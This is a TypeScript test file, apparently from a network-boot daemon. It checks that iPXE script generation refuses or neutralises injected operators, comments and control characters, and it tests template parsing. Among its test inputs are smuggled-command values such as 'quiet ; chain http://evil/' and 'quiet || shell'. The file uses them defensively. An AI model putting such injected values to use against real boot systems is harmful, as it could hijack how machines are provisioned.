import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isIronbayError } from '../../daemon/errors.ts';
import { TEMPLATE_DIR } from '../../daemon/boot/http-app.ts';
import { ipxeArg, ipxeArgs, ipxeLines, ipxeText, loadTemplates, parseTemplate, renderTemplate, tokenProblem, word } from '../../daemon/boot/ipxe-script.ts';

const refused = (fn: () => unknown, pattern: RegExp): void =>
  assert.throws(fn, (e: unknown) => isIronbayError(e, 'IB_ERR_INVENTORY_INVALID') && pattern.test(e.message));

describe('iPXE escaping (src/image/script.c, src/core/exec.c)', () => {
  test('one argument: whitespace, control characters, operators, comments and continuations are refused', () => {
    assert.equal(tokenProblem('http://198.51.100.1:8080/boot/assets/a?boot=1&stage=kernel'), undefined);
    assert.match(tokenProblem('a b')!, /space/);
    assert.match(tokenProblem('a\nb')!, /control character 0x0a/);
    assert.match(tokenProblem('a\u007fb')!, /0x7f/);
    assert.match(tokenProblem('||')!, /operator/);
    assert.match(tokenProblem('&&')!, /operator/);
    assert.match(tokenProblem(';')!, /operator/);
    assert.match(tokenProblem('#x')!, /comment/);
    assert.match(tokenProblem('x\\')!, /continuation/);
    assert.match(tokenProblem('')!, /empty/);
    // Only a whole argument is an operator or a comment; inside one they are plain text.
    assert.equal(tokenProblem('a||b'), undefined);
    assert.equal(tokenProblem('a#b'), undefined);
    refused(() => ipxeArg('x y', 'kernel URL'), /kernel URL "x y" cannot be put in an iPXE script: it contains a space/);
  });

  test('a command line is re-split as iPXE would and joined with single spaces: a line break cannot start a command', () => {
    assert.equal(ipxeArgs('  auto=true\tpriority=critical\r\n  console=ttyS0 ', 'cmdline').text, 'auto=true priority=critical console=ttyS0');
    assert.equal(ipxeArgs('quiet\nreboot', 'cmdline').text, 'quiet reboot'); // "reboot" stays an argument of kernel
    assert.equal(ipxeArgs('', 'cmdline').text, '');
    refused(() => ipxeArgs('quiet || shell', 'profile debian12 cmdline'), /profile debian12 cmdline: argument "\|\|" .* operator/);
    refused(() => ipxeArgs('quiet ; chain http://evil/', 'cmdline'), /argument ";"/);
    refused(() => ipxeArgs('quiet #comment', 'cmdline'), /comment/);
    refused(() => ipxeArgs('quiet x\\', 'cmdline'), /continuation/);
    refused(() => ipxeArgs('a\u0000b', 'cmdline'), /0x00/);
    // iPXE settings stay: expansion happens after the split and adds no argument.
    assert.equal(ipxeArgs('BOOTIF=01-${net0/mac:hexhyp}', 'cmdline').text, 'BOOTIF=01-${net0/mac:hexhyp}');
  });

  test('echo text is never refused; what iPXE would act on is neutralised', () => {
    assert.equal(ipxeText('w-000 is failed (BMC ${x} #1) || reboot ; \\').text, 'w-000 is failed (BMC ?{x} ?1) reboot ?');
    assert.equal(ipxeText('line\nbreak').text, 'line break');
  });

  test('own words may be operators but never whitespace', () => {
    assert.equal(word('||').text, '||');
    assert.throws(() => word('a b'), (e: unknown) => isIronbayError(e, 'IB_ERR_INTERNAL'));
  });
});

describe('iPXE templates', () => {
  test('the shipped templates load and use only their placeholders', () => {
    const t = loadTemplates(TEMPLATE_DIR);
    assert.deepEqual([...t['kernel.ipxe'].ownLine], ['initrds']);
    assert.ok(t['hold.ipxe'].placeholders.has('holdSeconds'));
  });

  test('a template must be an iPXE script, with known, well-formed placeholders', () => {
    assert.throws(() => parseTemplate('t', 'echo hi\n', ['a']), (e: unknown) => isIronbayError(e, 'IB_ERR_CONFIG_INVALID') && /must start with the line "#!ipxe"/.test(e.message));
    assert.throws(() => parseTemplate('t', '#!ipxe\necho {{b}}\n', ['a']), (e: unknown) => isIronbayError(e) && /t:2: unknown placeholder \{\{b\}\}; this template may use \{\{a\}\}/.test(e.message));
    assert.throws(() => parseTemplate('t', '#!ipxe\necho {{a}\n', ['a']), (e: unknown) => isIronbayError(e) && /t:2: malformed placeholder/.test(e.message));
  });

  test('rendering: every placeholder needs a value; command lines only where they stand alone', () => {
    const t = parseTemplate('t', '#!ipxe\necho {{a}}\n{{lines}}\n', ['a', 'lines']);
    const lines = ipxeLines([[word('initrd'), ipxeArg('http://x/i', 'u')], [word('boot')]]);
    assert.equal(renderTemplate(t, { a: ipxeText('hi'), lines }), '#!ipxe\necho hi\ninitrd http://x/i\nboot\n');
    assert.throws(() => renderTemplate(t, { a: ipxeText('hi') }), /no value for \{\{lines\}\}/);
    assert.throws(() => renderTemplate(t, { a: lines, lines }), /must stand alone on its line/);
  });
});
